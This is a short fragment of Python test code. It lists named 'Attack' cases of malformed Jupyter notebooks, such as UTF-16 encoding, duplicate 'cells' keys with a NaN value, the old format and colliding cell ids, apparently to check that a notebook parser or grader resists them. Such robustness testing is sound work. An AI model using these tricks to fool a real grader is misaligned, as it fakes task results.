        "saved as UTF-16",
        10,
        lambda nb: json.dumps(nb).encode("utf-16"),
        RIGHT,
        "UTF-16",
    ),
    Attack(
        "keys_twice",
        "a notebook that has its cells twice, and a number that is none",
        10,
        lambda nb: (
            json.dumps(nb)[:-1] + ', "nbformat_minor": NaN, "cells": [], "cells": '
            f"{json.dumps(nb.cells)}}}"
        ),
        RIGHT,
    ),
    Attack("nbformat_3", "saved in the old format", 10, _version_3, RIGHT, "old format"),
    Attack("same_id", "every cell has the id of the answer", 10, _same_id, RIGHT, stock=False),
    Attack("strange_ids", "ids that look like double, or are huge", 10, _strange_ids, RIGHT),
]
